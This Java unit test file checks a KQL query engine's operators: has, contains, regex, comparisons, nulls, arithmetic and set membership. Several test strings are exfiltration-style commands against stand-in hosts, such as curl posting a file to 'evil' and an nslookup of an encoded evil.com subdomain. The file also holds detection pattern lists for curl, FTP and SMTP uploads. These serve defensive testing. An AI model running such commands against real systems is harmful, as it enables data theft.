package io.egress.kql.engine.functions;

import static org.assertj.core.api.Assertions.assertThat;

import io.egress.data.ScalarType;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Operators as a table: left, operator, right (a constant), expected. */
class OperatorsTest {
    static Stream<Arguments> stringOperators() {
        return Stream.of(
                // has: term semantics, case-insensitive (the seed's tricky cases)
                Arguments.of("curl.exe --databases", "has", "--data", false),
                Arguments.of("curl.exe --data-binary @x", "has", "--data", true),
                Arguments.of("-SmtpServer x", "has", "smtp", false),
                Arguments.of("Send -Smtp x", "has", "smtp", true),
                Arguments.of("sftp://x", "has", "ftp://", false),
                Arguments.of("ftp://x", "has", "ftp://", true),
                Arguments.of("get ftp://x", "has", "ftp://", true),
                Arguments.of("curl -T file", "has", "-T ", true),
                Arguments.of("curl -t file", "has", "-T ", true),
                Arguments.of("curl -Tfile", "has", "-T ", false),
                Arguments.of("North America", "has", "america", true),
                Arguments.of("North America", "has", "meric", false),
                Arguments.of("North America", "!has", "meric", true),
                Arguments.of("North America", "has_cs", "America", true),
                Arguments.of("North America", "has_cs", "america", false),
                Arguments.of("North America", "!has_cs", "america", true),
                Arguments.of("curl.exe", "has", "curl", true),
                Arguments.of("curl.exe", "has", "curl.exe", true),
                Arguments.of("xcurl.exe", "has", "curl.exe", false),
                Arguments.of("curl.exe2", "has", "curl.exe", false),
                Arguments.of("", "has", "a", false),
                Arguments.of("abc", "has", "", true),
                // docs examples for hasprefix / hassuffix
                Arguments.of("North America", "hasprefix", "ame", true),
                Arguments.of("North America", "hasprefix", "mer", false),
                Arguments.of("North America", "!hasprefix", "mer", true),
                Arguments.of("North America", "hasprefix_cs", "Ame", true),
                Arguments.of("North America", "hasprefix_cs", "ame", false),
                Arguments.of("North America", "hassuffix", "ica", true),
                Arguments.of("North America", "hassuffix", "americ", false),
                Arguments.of("North America", "hassuffix_cs", "ica", true),
                Arguments.of("North America", "!hassuffix_cs", "icA", true),
                // contains family (docs table)
                Arguments.of("FabriKam", "contains", "BRik", true),
                Arguments.of("Fabrikam", "!contains", "xyz", true),
                Arguments.of("FabriKam", "contains_cs", "Kam", true),
                Arguments.of("Fabrikam", "!contains_cs", "Kam", true),
                Arguments.of("Fabrikam", "notcontains", "xyz", true),
                Arguments.of("Fabrikam", "contains", "", true),
                Arguments.of("Fabrikam", "startswith", "fab", true),
                Arguments.of("Fabrikam", "!startswith", "kam", true),
                Arguments.of("Fabrikam", "startswith_cs", "Fab", true),
                Arguments.of("Fabrikam", "startswith_cs", "fab", false),
                Arguments.of("Fabrikam", "!startswith_cs", "fab", true),
                Arguments.of("Fabrikam", "endswith", "Kam", true),
                Arguments.of("Fabrikam", "!endswith", "brik", true),
                Arguments.of("Fabrikam", "endswith_cs", "kam", true),
                Arguments.of("Fabrikam", "!endswith_cs", "brik", true),
                Arguments.of("ab", "endswith", "xab", false),
                // equality
                Arguments.of("aBc", "==", "aBc", true),
                Arguments.of("abc", "==", "ABC", false),
                Arguments.of("abc", "!=", "ABC", true),
                Arguments.of("abc", "<>", "abc", false),
                Arguments.of("abc", "=~", "ABC", true),
                Arguments.of("aBc", "!~", "xyz", true),
                Arguments.of("aBc", "!~", "ABC", false),
                // matches regex: case-sensitive, unanchored (seed patterns)
                Arguments.of("curl http://evil/x -d @f", "matches regex", "http://[^\\s]+", true),
                Arguments.of("curl https://evil/x", "matches regex", "http://[^\\s]+", false),
                Arguments.of("nslookup aGVsbG8gd29ybGQgdGhpcyBpcw.evil.com", "matches regex", "[A-Za-z0-9+/]{20,}\\.[a-z]{2,}", true),
                Arguments.of("nslookup short.evil.com", "matches regex", "[A-Za-z0-9+/]{20,}\\.[a-z]{2,}", false),
                Arguments.of("ABC", "matches regex", "abc", false),
                Arguments.of("xABCx", "matches regex", "(?i)abc", true),
                Arguments.of("abc", "matches regex", "^b", false));
    }

    @ParameterizedTest(name = "\"{0}\" {1} \"{2}\" -> {3}")
    @MethodSource("stringOperators")
    void stringOperator(String left, String op, String right, boolean expected) {
        assertThat(Eval.binary(left, op, right)).isEqualTo(expected);
        // the same operator with a right side that varies per row agrees
        assertThat(Eval.binaryTyped(ScalarType.STRING, left, op, ScalarType.STRING, right, false)).isEqualTo(expected);
    }

    static Stream<Arguments> comparisons() {
        return Stream.of(
                Arguments.of(1, "==", 1L, true),
                Arguments.of(1, "==", 1.0, true),
                Arguments.of(2L, ">", 1.5, true),
                Arguments.of(2L, "<", 1.5, false),
                Arguments.of(2, ">=", 2L, true),
                Arguments.of(2, "<=", 1, false),
                Arguments.of(3, "!=", 3.0, false),
                Arguments.of(Eval.dt("2024-01-02"), ">", Eval.dt("2024-01-01"), true),
                Arguments.of(Eval.ts("1h"), "<", Eval.ts("61m"), true),
                Arguments.of(true, "==", true, true),
                Arguments.of("b", ">", "a", true),
                Arguments.of(Eval.json("5"), ">", 3L, true),
                Arguments.of(Eval.json("\"x\""), "==", "x", true),
                Arguments.of(Eval.json("{\"a\":1}"), "==", "{\"a\":1}", true));
    }

    @ParameterizedTest(name = "{0} {1} {2} -> {3}")
    @MethodSource("comparisons")
    void comparison(Object left, String op, Object right, boolean expected) {
        assertThat(Eval.binary(left, op, right)).isEqualTo(expected);
    }

    @Test
    void nullRulesFollowTheDocs() {
        // docs (null values): null == value is false, null != value is true, null vs null is null, val > 3 is null
        assertThat(Eval.binaryTyped(ScalarType.INT, null, "==", ScalarType.INT, 5, true)).isEqualTo(false);
        assertThat(Eval.binaryTyped(ScalarType.INT, null, "!=", ScalarType.INT, 5, true)).isEqualTo(true);
        assertThat(Eval.binaryTyped(ScalarType.INT, null, "==", ScalarType.INT, null, true)).isNull();
        assertThat(Eval.binaryTyped(ScalarType.INT, null, "!=", ScalarType.INT, null, true)).isNull();
        assertThat(Eval.binaryTyped(ScalarType.INT, null, ">", ScalarType.INT, 3, true)).isNull();
        assertThat(Eval.binaryTyped(ScalarType.INT, null, "+", ScalarType.INT, 3, true)).isNull();
        assertThat(Eval.binaryTyped(ScalarType.BOOL, null, "or", ScalarType.BOOL, true, true)).isEqualTo(true);
        assertThat(Eval.binaryTyped(ScalarType.BOOL, null, "and", ScalarType.BOOL, false, true)).isEqualTo(false);
        assertThat(Eval.binaryTyped(ScalarType.BOOL, null, "and", ScalarType.BOOL, true, true)).isNull();
        assertThat(Eval.binaryTyped(ScalarType.BOOL, null, "or", ScalarType.BOOL, false, true)).isNull();
    }

    static Stream<Arguments> arithmetic() {
        return Stream.of(
                Arguments.of(7, "/", 2, 3),
                Arguments.of(-7, "/", 2, -3),
                Arguments.of(7L, "/", 2, 3L),
                Arguments.of(7.0, "/", 2, 3.5),
                Arguments.of(7, "%", 3, 1),
                Arguments.of(-7L, "%", 3L, -1L),
                Arguments.of(1, "+", 2L, 3L),
                Arguments.of(1, "*", 2.5, 2.5),
                Arguments.of(1L, "/", 0L, null),
                Arguments.of(1.0, "/", 0.0, Double.POSITIVE_INFINITY),
                Arguments.of(Eval.dt("2024-01-02"), "-", Eval.dt("2024-01-01"), Eval.ts("1d")),
                Arguments.of(Eval.dt("2024-01-01"), "+", Eval.ts("1h"), Eval.dt("2024-01-01 01:00")),
                Arguments.of(Eval.ts("1h"), "+", Eval.dt("2024-01-01"), Eval.dt("2024-01-01 01:00")),
                Arguments.of(Eval.dt("2024-01-01"), "-", Eval.ts("1d"), Eval.dt("2023-12-31")),
                Arguments.of(Eval.ts("1h"), "*", 2, Eval.ts("2h")),
                Arguments.of(3L, "*", Eval.ts("1m"), Eval.ts("3m")),
                Arguments.of(Eval.ts("1h"), "/", Eval.ts("30m"), 2.0),
                Arguments.of(Eval.ts("1h"), "/", 2, Eval.ts("30m")),
                Arguments.of(Eval.ts("1h"), "-", Eval.ts("2h"), Eval.ts("-1h")),
                Arguments.of(new java.math.BigDecimal("1.5"), "+", 1, new java.math.BigDecimal("2.5")));
    }

    @ParameterizedTest(name = "{0} {1} {2} -> {3}")
    @MethodSource("arithmetic")
    void arithmetic(Object left, String op, Object right, Object expected) {
        assertThat(Eval.binary(left, op, right)).isEqualTo(expected);
    }

    @Test
    void setOperators() {
        // seed: RemotePort in (21, 2121); InitiatingProcessFileName !in~ (...)
        assertThat(Eval.set(21, "in", 21L, 2121L)).isEqualTo(true);
        assertThat(Eval.set(22, "in", 21L, 2121L)).isEqualTo(false);
        assertThat(Eval.set(22, "!in", 21L, 2121L)).isEqualTo(true);
        assertThat(Eval.set("SvcHost.exe", "!in~", "svchost.exe", "lsass.exe")).isEqualTo(false);
        assertThat(Eval.set("curl.exe", "!in~", "svchost.exe", "lsass.exe")).isEqualTo(true);
        assertThat(Eval.set("SvcHost.exe", "in", "svchost.exe")).isEqualTo(false);
        assertThat(Eval.set("SvcHost.exe", "in~", "svchost.exe")).isEqualTo(true);
        assertThat(Eval.set("21", "in", 21L)).isEqualTo(true);
        // a dynamic array on the right is flattened
        assertThat(Eval.set("winscp.exe", "in~", Eval.json("[\"ftp.exe\", \"WinSCP.exe\"]"))).isEqualTo(true);
        // has_any / has_all with the seed's lists
        Object ftpPatterns = Eval.json("[\"--upload-file\", \"-T \", \"PUT \", \"STOR \", \"-u ftp\", \"ftp://\", \"ftps://\", \"sftp://\"]");
        assertThat(Eval.set("curl --upload-file x.zip http://h/", "has_any", ftpPatterns)).isEqualTo(true);
        assertThat(Eval.set("curl -t x.zip http://h/", "has_any", ftpPatterns)).isEqualTo(true);
        assertThat(Eval.set("curl sftp://h/", "has_any", ftpPatterns)).isEqualTo(true); // via "sftp://"
        assertThat(Eval.set("curl xsftp://h/", "has_any", ftpPatterns)).isEqualTo(false);
        assertThat(Eval.set("curl.exe --databases", "has_any", "--data", "-d ")).isEqualTo(false);
        assertThat(Eval.set("blat -to a -server b", "has_all", "-to ", "-server")).isEqualTo(true);
        assertThat(Eval.set("blat -to a", "has_all", "-to ", "-server")).isEqualTo(false);
        assertThat(Eval.set("x", "has_any")).isEqualTo(false);
    }

    @Test
    void betweenIncludesBothEndsAndAcceptsATimespanHigh() {
        var ops = Eval.REGISTRY.operators();
        var b = (BindResult.Bound<BoundScalar>) ops.bindBetween(false, ScalarType.LONG, ScalarType.LONG, ScalarType.LONG);
        assertThat(b.implementation().invoke(new Object[] {5L, 1L, 5L}, Eval.CTX)).isEqualTo(true);
        assertThat(b.implementation().invoke(new Object[] {6L, 1L, 5L}, Eval.CTX)).isEqualTo(false);
        var nb = (BindResult.Bound<BoundScalar>) ops.bindBetween(true, ScalarType.LONG, ScalarType.LONG, ScalarType.LONG);
        assertThat(nb.implementation().invoke(new Object[] {6L, 1L, 5L}, Eval.CTX)).isEqualTo(true);
        var d = (BindResult.Bound<BoundScalar>) ops.bindBetween(false, ScalarType.DATETIME, ScalarType.DATETIME, ScalarType.TIMESPAN);
        assertThat(d.implementation().invoke(new Object[] {Eval.dt("2024-01-02"), Eval.dt("2024-01-01"), Eval.ts("1d")}, Eval.CTX)).isEqualTo(true);
        assertThat(d.implementation().invoke(new Object[] {Eval.dt("2024-01-03"), Eval.dt("2024-01-01"), Eval.ts("1d")}, Eval.CTX)).isEqualTo(false);
    }

    @Test
    void bindErrors() {
        var ops = Eval.REGISTRY.operators();
        var bad = ops.bindBinary("matches regex", ScalarType.STRING, ScalarType.STRING, "a(b");
        assertThat(bad).isInstanceOf(BindResult.Error.class);
        assertThat(((BindResult.Error<BoundScalar>) bad).message()).contains("invalid regular expression").contains("missing closing )");
        assertThat(ops.bindBinary("==", ScalarType.LONG, ScalarType.STRING, "1")).isInstanceOf(BindResult.Error.class);
        assertThat(ops.bindBinary("+", ScalarType.STRING, ScalarType.STRING, "1")).isInstanceOf(BindResult.Error.class);
        assertThat(ops.bindBinary("frobnicate", ScalarType.STRING, ScalarType.STRING, "1")).isInstanceOf(BindResult.Error.class);
        assertThat(ops.bindUnary("not", ScalarType.STRING)).isInstanceOf(BindResult.Error.class);
    }

    @Test
    void unary() {
        var neg = (BindResult.Bound<BoundScalar>) Eval.REGISTRY.operators().bindUnary("-", ScalarType.TIMESPAN);
        assertThat(neg.implementation().invoke(new Object[] {Eval.ts("1h")}, Eval.CTX)).isEqualTo(Eval.ts("-1h"));
        var not = (BindResult.Bound<BoundScalar>) Eval.REGISTRY.operators().bindUnary("not", ScalarType.BOOL);
        assertThat(not.implementation().invoke(new Object[] {true}, Eval.CTX)).isEqualTo(false);
        assertThat(not.implementation().invoke(new Object[] {null}, Eval.CTX)).isNull();
    }
}
